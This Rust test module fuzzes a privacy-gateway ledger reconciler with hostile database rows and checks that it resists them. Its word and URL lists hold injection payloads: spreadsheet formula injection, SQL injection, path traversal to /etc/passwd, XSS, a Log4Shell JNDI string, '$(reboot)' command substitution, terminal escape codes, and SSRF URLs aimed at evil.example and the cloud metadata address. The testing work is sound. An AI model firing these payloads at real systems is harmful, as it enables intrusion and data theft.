//! Ledgers that a broken or malicious writer filled, by plain SQL as any language would: honest rows stand before and
//! after the others, and must be settled as if they were alone.

use std::collections::HashMap;

use privo_reconcile::clock::{Moment, Span};
use rusqlite::types::Value;

use crate::judge::{CONTROLS, Line, Trial, honest, is_true, limited_run};
use crate::util::{CANARY, Dir, Entry, Hostile, Row, Setup, rows, said};

/// A hostile row, and the reasons for which it may stand in the report.
type Made = (Entry, &'static [&'static str]);

/// How much is tried.
#[derive(Clone, Copy)]
pub struct Size {
    /// Of a long text, in bytes.
    long: usize,
    /// Of the words, every how many-th.
    every: usize,
}

pub const QUICK: Size = Size { long: 100_000, every: 4 };
pub const WHOLE: Size = Size { long: 1_000_000, every: 1 };

/// What one writer does.
pub struct Family {
    pub name: &'static str,
    pub plan: &'static str,
    /// Of this server's URL.
    pub rows: fn(&str, Size) -> Vec<Made>,
    /// Requests in a run for each hostile row, at the most.
    pub each: usize,
    pub within: Span,
    /// Takes long.
    pub slow: bool,
}

const BAD: &[&str] = &["bad-row"];
const NOT_THERE: &[&str] = &["confirmed-absent"];
/// Of keys that a path may not carry.
const STEPS: &[&str] = &["confirmed-absent", "removed-since", "inconclusive"];
const OTHER: &[&str] = &["other-environment"];
const ODD: &[&str] = &["bad-row", "confirmed-absent", "unobservable", "removed-since", "no-plan", "no-effect"];

pub fn families() -> Vec<Family> {
    let family =
        |name, rows| Family { name, plan: "privo-gateway", rows, each: 2, within: Span::seconds(100), slow: false };
    let many = |name, rows| Family { each: 0, slow: true, within: Span::seconds(25), ..family(name, rows) };
    vec![
        family("formulas, SQL, paths, markup, control characters in every column", texts),
        family("other types than text: BLOBs, numbers, invalid UTF-8, NUL", kinds),
        family("keys that are formulas, paths, Unicode, very long", keys),
        Family { plan: "privo-consent", ..family("keys that would leave their place in a path", paths) },
        family("URLs of other hosts, `file:`, `userinfo@`, very long", urls),
        family("dates: year 0, 9999, leap seconds, offsets +99:99", dates),
        family("request ids: empty, a million bytes, twice, alike", ids),
        family("bodies: deep, wide, no JSON, with names twice", bodies),
        Family { slow: true, within: Span::seconds(60), ..family("60 bodies of 10 MB", big) },
        Family { each: 5_001, slow: true, within: Span::seconds(60), ..family("5,000 children in one body", children) },
        many("20,000 entries on one key", one_key),
        many("20,000 attempts of one operation", one_operation),
        many("20,000 on one key, every other one answered", answered),
    ]
}

/// A registration of nobody whom the server knows.
fn stranger(id: &str, url: &str, n: usize) -> Entry {
    Entry::register(id, url, &format!("child{}@secret.example", 2 * n + 1001))
}

fn words(size: Size) -> Vec<String> {
    let mut words: Vec<String> = [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+1+1",
        "-1-1",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u{feff}=1+1",
        "=HYPERLINK(\"http://evil.example\")",
        "'; DROP TABLE entries; --",
        "\" OR 1=1",
        "Robert'); DELETE FROM verdicts;--",
        "../../../etc/passwd",
        "..",
        ".",
        "/",
        "\\\\evil\\share",
        "C:\\con",
        "~root",
        "a\0b",
        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m",
        "\u{9b}2J",
        "\u{202e}gnp.exe",
        "a\nprivo-reconcile: all settled\n",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "%s%s%n",
        "$(reboot)",
        "`reboot`",
        "--help",
        "-",
        "null",
        "NaN",
        "true",
        "\u{1F468}\u{200d}\u{1F469}",
        "\u{0}",
        " ",
        "é\u{301}\u{301}\u{301}",
    ]
    .map(str::to_owned)
    .to_vec();
    words.push("x".repeat(size.long));
    words = words.into_iter().rev().step_by(size.every).collect();
    words
}

/// One hostile word in one column each.
fn texts(url: &str, size: Size) -> Vec<Made> {
    let mut made = Vec::new();
    for column in [
        "request_id",
        "operation_id",
        "direction",
        "method",
        "url",
        "body",
        "sent_at",
        "ended_at",
        "failure",
        "http_status",
        "error",
    ] {
        for (n, word) in words(size).into_iter().enumerate() {
            let entry = stranger(&format!("{column}-{n}"), url, made.len());
            // Blank is as good as absent where a column may be left out.
            let reasons: &[&str] = match column {
                "request_id" | "operation_id" | "error" | "http_status" | "body" | "method" => ODD,
                _ => BAD,
            };
            made.push((entry.with(column, word), reasons));
        }
    }
    made
}

fn kinds(url: &str, _: Size) -> Vec<Made> {
    let kinds = [
        Value::Integer(-1),
        Value::Integer(i64::MIN),
        Value::Real(503.5),
        Value::Real(f64::NEG_INFINITY),
        Value::Blob(vec![0xff, 0xfe, 0x00]),
        Value::Blob(Vec::new()),
        Value::Blob(b"POST".to_vec()),
        Value::Blob(vec![0x80; 100_000]),
    ];
    let mut made = Vec::new();
    for column in
        ["operation_id", "direction", "method", "url", "body", "sent_at", "ended_at", "failure", "http_status", "error"]
    {
        for kind in &kinds {
            let entry = stranger(&format!("{column}-{}", made.len()), url, made.len());
            made.push((entry.with(column, kind.clone()), ODD));
        }
    }
    made
}

fn keys(url: &str, size: Size) -> Vec<Made> {
    // More in a row than the breaker bears, if a request were tried for each.
    let mut keys: Vec<String> = (0..15).map(|n| format!("{}{n}@example.com", "x".repeat(70_000))).collect();
    keys.extend(words(size));
    keys.extend(
        [
            "ÅNN@EXAMPLE.COM",
            "user@xn--bcher-kva.example",
            "пользователь@пример.рф",
            "\u{ff41}@example.com",
            "ß@example.com",
            "İ@example.com",
        ]
        .map(str::to_owned),
    );
    keys.extend(["a".repeat(2_000), "é".repeat(30_000), format!("{}@example.com", "a".repeat(200_000))]);
    let entry = |(n, key): (usize, String)| {
        let body = serde_json::json!({ "email": key, "first_name": "Ann", "birth_date_yyyymmdd": "19900102" });
        (Entry::new(&format!("key-{n}"), "POST", &format!("{url}/api/v1.0/account")).body(&body.to_string()), ODD)
    };
    keys.into_iter().enumerate().map(entry).collect()
}

fn paths(url: &str, _: Size) -> Vec<Made> {
    let eids = [
        ".",
        "..",
        "...",
        "%2e%2e",
        "../../oauth/token",
        "..\\..",
        "a/b",
        "a?b",
        "a#b",
        ";a",
        "a%00b",
        "\t..",
        " .. ",
        ".\u{200b}.",
    ];
    let mut made: Vec<Made> = eids
        .iter()
        .enumerate()
        .map(|(n, eid)| {
            let body = serde_json::json!({ "granter": { "email": "p@secret.example" }, "principal": { "eid": eid, "given_name": "Ann", "birthdate": "19900102" } });
            (Entry::new(&format!("eid-{n}"), "POST", &format!("{url}/s2s/api/v1.0/sandbox/requests")).body(&body.to_string()), STEPS)
        })
        .collect();
    for (n, path) in [
        "accounts/eid/%2e%2e",
        "accounts/eid/%252e%252e",
        "accounts/eid/..%2f..%2f",
        "accounts/eid/%00",
        "accounts/eid/%ff",
        "accounts/eid/",
    ]
    .iter()
    .enumerate()
    {
        made.push((
            Entry::new(&format!("delete-{n}"), "DELETE", &format!("{url}/s2s/api/v1.0/sandbox/{path}")),
            &["bad-row", "no-plan", "deleted", "inconclusive"],
        ));
    }
    made
}

fn urls(url: &str, size: Size) -> Vec<Made> {
    let host = url.trim_start_matches("http://");
    let there = format!("http://{host}/api/v1.0/account");
    let list: Vec<(String, &'static [&'static str])> = vec![
        ("http://evil.example/api/v1.0/account".to_owned(), OTHER),
        (format!("http://{host}@evil.example/api/v1.0/account"), OTHER),
        (format!("http://{host}.evil.example/api/v1.0/account"), BAD),
        (format!("http://evil.example#@{host}/api/v1.0/account"), OTHER),
        (format!("http://evil.example\\@{host}/api/v1.0/account"), OTHER),
        ("http://127.0.0.1:1/api/v1.0/account".to_owned(), OTHER),
        ("http://[::1]/api/v1.0/account".to_owned(), OTHER),
        ("http://169.254.169.254/latest/meta-data".to_owned(), OTHER),
        (format!("http://user:password@{host}/api/v1.0/account"), NOT_THERE),
        (there.replace("127.0.0.1", "2130706433"), NOT_THERE),
        (there.replace("http", "HTTP"), NOT_THERE),
        (format!("{there}?{}", "a=b&".repeat(size.long / 4)), NOT_THERE),
        (format!("{there}#{}", "x".repeat(size.long)), NOT_THERE),
        (format!("{url}/{}", "a/".repeat(size.long / 2)), &["no-plan"]),
        (format!("{there}/../../../oauth/token"), &["no-effect"]),
        (format!("{there}/%2e%2e/%2e%2e"), &["no-plan"]),
        (format!("ftp://{host}/api/v1.0/account"), &["no-plan", "other-environment", "confirmed-absent", "bad-row"]),
        ("file:///etc/passwd".to_owned(), BAD),
        ("file://127.0.0.1/etc/passwd".to_owned(), OTHER),
        ("javascript:alert(1)".to_owned(), BAD),
        ("data:application/json,{}".to_owned(), BAD),
        ("//127.0.0.1/api/v1.0/account".to_owned(), BAD),
        ("/api/v1.0/account".to_owned(), BAD),
        ("http://".to_owned(), BAD),
        ("http://127.0.0.1:99999/".to_owned(), BAD),
        ("http://[::1".to_owned(), BAD),
        ("http://a b/".to_owned(), BAD),
    ];
    list.into_iter()
        .enumerate()
        .map(|(n, (text, reasons))| (stranger(&format!("url-{n}"), url, n).with("url", text), reasons))
        .collect()
}

fn dates(url: &str, _: Size) -> Vec<Made> {
    let bad = [
        "0000-01-01T00:00:00Z",
        "0001-01-01T00:00:00Z",
        "-0001-01-01T00:00:00Z",
        "+12026-01-01T00:00:00Z",
        "9999-12-31T23:59:59-23:59",
        "1969-12-31T23:59:59Z",
        "2026-01-01T00:00:00+99:99",
        "2026-01-01T00:00:00+24:00",
        "2026-02-29T00:00:00Z",
        "2026-13-01T00:00:00Z",
        "2026-01-01T25:00:00Z",
        "2026-01-01T00:60:00Z",
        "2026-01-01T00:00:61Z",
        "2026-01-01T00:00:00",
        "2026-01-01",
        "1767225600",
        "1767225600000",
        "Thu, 01 Jan 2026 00:00:00 GMT",
        "now",
        "2026-W01-1T00:00:00Z",
        "٢٠٢٦-٠١-٠١T00:00:00Z",
        "2026-01-01T00:00:00.Z",
        "2026-01-01T00:00:00.5.5Z",
        "2026-01-01T00:00:00Zjunk",
    ];
    let odd = [
        "1970-01-01T00:00:00Z",
        "2016-12-31T23:59:60Z",
        "2026-01-01T00:00:00+23:59",
        "2026-01-01T00:00:00-00:00",
        "2026-01-01t00:00:00z",
        "2026-01-01 00:00:00Z",
        "2026-01-01T00:00:00.123456789123456789Z",
        " 2026-01-01T00:00:00Z ",
        "9999-12-31T23:59:59Z",
        "2999-01-01T00:00:00Z",
    ];
    let mut made = Vec::new();
    for column in ["sent_at", "ended_at"] {
        for (list, reasons) in [(&bad[..], BAD), (&odd[..], &["confirmed-absent", "unsettled", "bad-row"][..])] {
            for text in list {
                made.push((
                    stranger(&format!("{column}-{}", made.len()), url, made.len()).with(column, (*text).to_owned()),
                    reasons,
                ));
            }
        }
    }
    made
}

fn ids(url: &str, size: Size) -> Vec<Made> {
    let id = |n: usize, id: Value| stranger("x", url, n).with("request_id", id);
    let mut made: Vec<Made> = vec![
        (id(0, Value::Text(String::new())), BAD),
        (id(1, Value::Text(" ".to_owned())), BAD),
        (id(2, Value::Text("x".repeat(size.long))), ODD),
        (id(3, Value::Text("same".to_owned())), ODD),
        (id(4, Value::Text("SAME".to_owned())), NOT_THERE),
        (id(5, Value::Text("same ".to_owned())), ODD),
        (id(6, Value::Integer(7)), ODD),
    ];
    // Alike when read as text, but not the same.
    made.extend(
        [vec![0xff], vec![0xfe], b"same".to_vec(), vec![]]
            .into_iter()
            .enumerate()
            .map(|(n, bytes)| (id(10 + n, Value::Blob(bytes)), BAD)),
    );
    made
}

fn bodies(url: &str, _: Size) -> Vec<Made> {
    let email = r#""email":"child1001@secret.example""#;
    let list: Vec<(String, &'static [&'static str])> = vec![
        ("[".repeat(100_000), BAD),
        (format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000)), BAD),
        (format!("{{{email},\"more\":{}{}}}", r#"{"a":"#.repeat(100_000), "}".repeat(100_000)), BAD),
        (format!("{{{email},\"more\":[{}0]}}", "0,".repeat(200_000)), ODD),
        (format!("{{{email},\"email\":\"child0@secret.example\"}}"), BAD),
        (format!("{{\"email\":\"child0@secret.example\",{email}}}"), BAD),
        (format!("{{{email}}}{{}}"), BAD),
        (format!("{{{email}}}\0"), BAD),
        (format!("\u{feff}{{{email}}}"), ODD),
        (r#"{"email":"\ud800"}"#.to_owned(), BAD),
        (r#"{"email":"\u0000"}"#.to_owned(), ODD),
        (r#"{"email":1e400}"#.to_owned(), BAD),
        (r#"{"email":{"a":1}}"#.to_owned(), ODD),
        (r#"{"email":[]}"#.to_owned(), ODD),
        (r#"{"email":null}"#.to_owned(), ODD),
        (r#"{"email":""}"#.to_owned(), ODD),
        (r#"{"email":true}"#.to_owned(), ODD),
        (r#"{"email":123456789012345678901234567890}"#.to_owned(), ODD),
        (r#""email=child0""#.to_owned(), ODD),
        ("null".to_owned(), ODD),
        ("[]".to_owned(), ODD),
        ("0".to_owned(), ODD),
        ("".to_owned(), ODD),
    ];
    const BLIND: &[&str] = &["bad-row", "confirmed-absent", "unobservable"];
    let entry = |(n, (body, reasons)): (usize, (String, &'static [&'static str]))| {
        let reasons = if reasons.len() > 1 { BLIND } else { reasons };
        (Entry::new(&format!("body-{n}"), "POST", &format!("{url}/api/v1.0/account")).body(&body), reasons)
    };
    list.into_iter().enumerate().map(entry).collect()
}

fn big(url: &str, _: Size) -> Vec<Made> {
    let entry = |n: usize| {
        let body = format!(
            r#"{{"email":"child{}@secret.example","first_name":"Ann","more":"{}"}}"#,
            2 * n + 1001,
            "x".repeat(10_000_000)
        );
        (Entry::new(&format!("big-{n}"), "POST", &format!("{url}/api/v1.0/account")).with("body", body), ODD)
    };
    (0..60).map(entry).collect()
}

fn children(url: &str, _: Size) -> Vec<Made> {
    let child = |n: usize| serde_json::json!({ "first_name": "Ann", "birth_date_yyyymmdd": "19900102", "email": format!("child{}@secret.example", 2 * n + 2001) });
    let body = serde_json::json!({ "email": "child1001@secret.example", "minor_registrations": (0..5_000).map(child).collect::<Vec<_>>() });
    vec![(
        Entry::new("parent", "POST", &format!("{url}/api/v1.0/account/parent")).with("body", body.to_string()),
        NOT_THERE,
    )]
}

fn one_key(url: &str, _: Size) -> Vec<Made> {
    (0..20_000).map(|n| (stranger(&format!("same-{n}"), url, 0), NOT_THERE)).collect()
}

fn one_operation(url: &str, _: Size) -> Vec<Made> {
    (0..20_000).map(|n| (stranger(&format!("same-{n}"), url, 0).operation("same"), NOT_THERE)).collect()
}

/// Every other one was told that it went well, and yet nobody is there.
fn answered(url: &str, _: Size) -> Vec<Made> {
    let entry = |n: usize| stranger(&format!("same-{n}"), url, 0);
    let made = (0..20_000).map(|n| if n % 2 == 0 { entry(n) } else { entry(n).answered(201) });
    made.map(|entry| (entry, &["removed-since"][..])).collect()
}

/// Fills a ledger, lets the job settle it, looks at all that it tells.
pub fn tried(family: &Family, size: Size) -> (&'static str, Line) {
    let server = Hostile::start(|asked, _| honest(asked));
    let mut trial = Trial::default();
    let dir = Dir::new(&setup(family, &server.url));
    let made = (family.rows)(&server.url, size);
    let number = insert(&dir, &server.url, &made);
    // A token, the controls of three lookups, two steps for two spellings of each honest row.
    let bound = 1 + 3 * CONTROLS + family.each * made.len() + 3 * 2 * 2;
    for _ in 0..3 {
        dir.due();
        let (before, began) = (server.asked().len(), Moment::now());
        let ran = limited_run(&dir, &["run"], &mut trial);
        let (asked, took) = (server.asked().len() - before, Moment::now().since(began));
        trial.requests = trial.requests.max(asked);
        trial.check_that(asked <= bound, || format!("{asked} requests are more than {bound}"));
        trial.check_that(took <= family.within, || format!("a run took {took}"));
        trial.check_that([0, 3, 4].contains(&ran.code) && ran.err.is_empty(), || format!("{ran:?}"));
        trial.sees(&ran);
    }
    judge(family, &dir, &made, number, &mut trial);
    for asked in server.asked() {
        let known = [
            "/oauth/token",
            "/api/v1.0/account/lookup?",
            "/userinfo?service_id=",
            "/s2s/api/v1.0/sandbox/accounts/eid/",
        ];
        let stays = known.iter().any(|known| asked.path.starts_with(known)) && !asked.path.ends_with("/eid/");
        trial.check_that(stays && asked.path.len() < 8_192, || format!("asked for {:.100}", asked.path));
    }
    tells(&dir, &mut trial);
    let mut line = Line::default();
    line.take(made.len(), bound, "", trial);
    (family.name, line)
}

fn setup(family: &Family, url: &str) -> Setup {
    let control = |lookup: &str, key: &str| format!("[[control]]\nlookup = \"{lookup}\"\nkey = \"{key}\"\n");
    let controls = match family.plan {
        "privo-consent" => control("account-by-eid", "canary@control"),
        _ => control("account-by-email", CANARY) + &control("account-by-user-name", "canary@control.example"),
    };
    Setup { controls, plan: family.plan.to_owned(), server: "timeout = \"1m\"".to_owned(), ..Setup::bare(url) }
}

/// Honest rows before, in the middle, and after. Gives how many rows the ledger took.
fn insert(dir: &Dir, url: &str, made: &[Made]) -> usize {
    let db = dir.db();
    db.execute_batch("BEGIN").unwrap();
    let mut number = 0;
    let good = |n: usize| {
        number_of(Entry::register(&format!("good{n}"), url, &format!("child{n}@secret.example")).insert(&db))
    };
    number += good(0);
    let examined = |entry: &Entry| usize::from(entry.text("failure") != "answered");
    let taken: usize = made.iter().map(|(entry, _)| number_of(entry.insert(&db)) * examined(entry)).sum();
    number += good(1) + good(2) + taken;
    db.execute_batch("COMMIT").unwrap();
    number
}

/// What the table itself refuses is no entry: the writer hears of it.
fn number_of(inserted: rusqlite::Result<usize>) -> usize {
    inserted.unwrap_or(0)
}

fn judge(family: &Family, dir: &Dir, made: &[Made], number: usize, trial: &mut Trial) {
    let ran = limited_run(dir, &["report"], trial);
    let rows = rows(&ran.out);
    trial.check_that(ran.code == 0, || format!("{:.300}", ran.err));
    if rows.len() != number {
        trial.lost.push(format!("{} rows of {number}", rows.len()));
    }
    for n in 0..3 {
        match rows.iter().find(|row| row["request_id"] == format!("good{n}")) {
            Some(row) if row["status"] == "resolved" && is_true(row, n, false) => {}
            Some(row) if family.plan != "privo-gateway" && row["reason"] == "no-plan" => {}
            Some(row) => trial.wrong.push(format!("good{n}: {}", said(row))),
            None => trial.lost.push(format!("good{n}")),
        }
    }
    let mut by_id: HashMap<&str, Vec<&Row>> = HashMap::new();
    for row in &rows {
        by_id.entry(row["request_id"].trim_start_matches('\'')).or_default().push(row);
    }
    for (entry, reasons) in made {
        let id = entry.text("request_id");
        for row in by_id.get(id.as_str()).into_iter().flatten() {
            if !reasons.contains(&row["reason"].as_str()) {
                trial.wrong.push(format!("{id:.40}: {} ({reasons:?})", said(row)));
            }
        }
    }
    for row in &rows {
        cells_are_harmless(row, trial);
    }
}

/// No spreadsheet runs any cell.
fn cells_are_harmless(row: &Row, trial: &mut Trial) {
    for (name, cell) in row {
        let start = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}');
        let runs = start.starts_with(['=', '+', '-', '@']) && !cell.starts_with('\'');
        trial.check_that(!runs, || format!("{name} could run: {cell:.60?}"));
    }
}

/// Every command that tells of the ledger can, and no terminal obeys what it prints.
fn tells(dir: &Dir, trial: &mut Trial) {
    for arguments in [
        &["status"][..],
        &["status", "--json"],
        &["verify"],
        &["report", "--format", "table"],
        &["report", "--format", "jsonl"],
        &["report", "--for", "resend"],
        &["report", "page.html"],
    ] {
        let ran = limited_run(dir, arguments, trial);
        trial.check_that(ran.code == 0, || format!("{arguments:?} {ran:.500?}"));
        let for_people = !["--json", "jsonl", "resend"].iter().any(|machine| arguments.contains(machine));
        let text = if for_people { ran.out.as_str() } else { "" };
        trial.check_that(
            !text.chars().any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c)),
            || format!("{arguments:?} prints control characters"),
        );
    }
    let db = dir.db();
    let mut ids = db
        .prepare("SELECT CAST(request_id AS TEXT) FROM entries WHERE typeof(request_id) = 'text' AND failure IS NOT 'answered' ORDER BY id")
        .unwrap();
    let ids: Vec<String> = ids
        .query_map([], |row| Ok(row.get::<_, String>(0).unwrap_or_default()))
        .unwrap()
        .map(|id| id.unwrap())
        .collect();
    let ids = ids.iter().filter(|id| !id.is_empty() && id.len() < 1000 && !id.contains('\0'));
    for id in ids.step_by(25).take(20) {
        let ran = limited_run(dir, &["show", "--", id], trial);
        trial.check_that(ran.code == 0, || format!("show {id:?} {ran:?}"));
        trial.check_that(!ran.out.chars().any(|c| c.is_control() && c != '\n'), || {
            format!("show {id:?} prints control characters")
        });
    }
}

#[test]
fn an_entry_whose_id_is_bytes_can_be_forgotten() {
    let server = Hostile::start(|asked, _| honest(asked));
    let dir = Dir::new(&Setup::bare(&server.url));
    dir.insert(&stranger("x", &server.url, 0).with("request_id", Value::Blob(vec![0xff, 0xfe])));
    dir.runs(3);
    let subject = "child1001@secret.example";
    for dry in [&["--dry-run"][..], &[]] {
        let ran = dir.run(&[&["forget", subject, "--who", "Dana", "--why", "asked"], dry].concat());
        assert_eq!((ran.code, dir.run(&["verify"]).code), (0, 0), "{ran:?}");
    }
    assert_eq!(dir.count("SELECT count(*) FROM entries WHERE body IS NOT NULL"), 0);
}
